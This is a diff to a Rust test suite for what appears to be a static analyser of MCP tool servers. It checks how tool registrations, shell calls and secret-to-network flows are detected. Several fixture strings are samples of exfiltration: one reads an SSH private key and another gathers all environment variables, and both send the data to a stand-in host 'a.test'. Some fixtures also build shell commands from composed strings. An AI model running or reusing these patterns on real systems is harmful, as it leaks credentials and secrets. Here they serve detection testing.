@@ -71,7 +71,8 @@ fn secrets_and_names_are_followed_to_the_send() {
     assert!(!flows_of("a.js", hashed, "fetch").first.any(Origins::HOST_NAME));
     let snake = "import requests\nfor p in ['/home/a/.ssh/id_rsa']:\n    with open(p) as f:\n        requests.post('https://a.test', data=f.read())\n";
     assert!(flows_of("a.py", snake, "requests.post").rest.any(Origins::SECRET));
-    let loops = "const d=[];for(const[k,v]of Object.entries(process.env))d.push(k+v);fetch('https://a.test/',{body:d.join()})";
+    let loops =
+        "const d=[];for(const[k,v]of Object.entries(process.env))d.push(k+v);fetch('https://a.test/',{body:d.join()})";
     assert!(flows_of("a.js", loops, "fetch").rest.any(Origins::ENVIRONMENT));
     let one = "const k=process.env.SERVICE_KEY;fetch('https://a.test/',{headers:{k}})";
     assert!(!flows_of("a.js", one, "fetch").rest.any(Origins::ENVIRONMENT));
@@ -97,9 +98,40 @@ fn names_in_pieces_are_put_together() {
 }
 
 #[test]
+fn further_idioms_register_a_tool() {
+    for (path, text) in [
+        (
+            "a.py",
+            "from enum import Enum\nclass Names(str, Enum):\n    ADD = 'add'\nt = Tool(name=Names.ADD, description='Adds', inputSchema={})\n",
+        ),
+        ("a.py", "t = types.Tool('add', 'Ad' 'ds')\n"),
+        ("a.py", "@cached\n@mcp.tool(name=\"add\", description='Adds')\nasync def f(x: int): pass\n"),
+        (
+            "a.ts",
+            "enum Names { ADD = \"add\" } const t = { name: Names.ADD as const, description: \"Adds\", inputSchema: { type: \"object\" } };",
+        ),
+        (
+            "a.tsx",
+            "server.registerTool(\"add\", { title: \"t\", description: `Adds`, inputSchema: {} }, async () => <a/>)",
+        ),
+        ("a.cjs", "const NAME = `add`; const D = 'Adds'; exports.f = (s) => s.tool(NAME, D, {}, async () => ({}))"),
+        (
+            "a.mjs",
+            "s.setRequestHandler(ListToolsRequestSchema, async () => ({ tools: [{ name: \"add\", description: \"Adds\", inputSchema: { type: \"object\", properties: {} } }] }))",
+        ),
+    ] {
+        let tool = tool_of(path, text);
+        assert_eq!((tool.name.as_str(), tool.description.as_deref()), ("add", Some("Adds")), "{text}");
+    }
+}
+
+#[test]
 fn tools_of_other_languages_are_read() {
     for (path, text) in [
-        ("a.go", "t := mcp.NewTool(\"add\",\n mcp.WithDescription(\"Adds\"),\n mcp.WithString(\"x\", mcp.Description(\"y\")))"),
+        (
+            "a.go",
+            "t := mcp.NewTool(\"add\",\n mcp.WithDescription(\"Adds\"),\n mcp.WithString(\"x\", mcp.Description(\"y\")))",
+        ),
         ("a.go", "var t = mcp.Tool{Name: \"add\", Description: `Adds`}"),
         ("a.go", "s.AddTool(\"add\", \"Adds\", handler)"),
         ("a.rs", "#[tool(description = \"Adds\")]\nasync fn add(&self, x: String) -> String { x }"),
@@ -123,7 +155,8 @@ fn tools_of_other_languages_are_read() {
 
 #[test]
 fn shells_of_other_languages_are_calls() {
-    let shape = |path: &str, text: &str| view_of(path, text).calls.first().and_then(|call| call.arguments.first().cloned());
+    let shape =
+        |path: &str, text: &str| view_of(path, text).calls.first().and_then(|call| call.arguments.first().cloned());
     let composed = |shape: Option<Argument>| matches!(shape, Some(Argument::Composed(_)));
     assert!(composed(shape("a.go", "exec.Command(\"sh\", \"-c\", \"du \" + dir)")));
     assert!(composed(shape("a.go", "exec.Command(\"bash\", \"-c\", fmt.Sprintf(\"du %s\", dir))")));
@@ -134,7 +167,8 @@ fn shells_of_other_languages_are_calls() {
 
 #[test]
 fn shallow_files_fit_the_stack_of_whoever_asks() {
-    let pieces = ["(", "[", "{", "!", "a=>", "a?b:", "a+", "typeof ", "`${", "a(", "(a,", "async()=>", "{a:", "function(){"];
+    let pieces =
+        ["(", "[", "{", "!", "a=>", "a?b:", "a+", "typeof ", "`${", "a(", "(a,", "async()=>", "{a:", "function(){"];
     let work = move || {
         for piece in pieces {
             for count in 1..=NEAR_LEVELS {
@@ -143,9 +177,12 @@ fn shallow_files_fit_the_stack_of_whoever_asks() {
                 let _ = read_text("a.py", &format!("eval(x)\n{}", piece.repeat(count)));
             }
         }
-        let nested = |open: &str, close: &str, count: usize| format!("eval(x);{}1{};", open.repeat(count), close.repeat(count));
+        let nested =
+            |open: &str, close: &str, count: usize| format!("eval(x);{}1{};", open.repeat(count), close.repeat(count));
         for count in 1..=NEAR_LEVELS {
-            for (open, close) in [("(", ")"), ("[", "]"), ("f(", ")"), ("(()=>", ")"), ("f(function(){return ", "})"), ("`${", "}`")] {
+            for (open, close) in
+                [("(", ")"), ("[", "]"), ("f(", ")"), ("(()=>", ")"), ("f(function(){return ", "})"), ("`${", "}`")]
+            {
                 let _ = read_text("a.js", &nested(open, close, count));
                 let _ = read_text("a.tsx", &nested(open, close, count));
             }
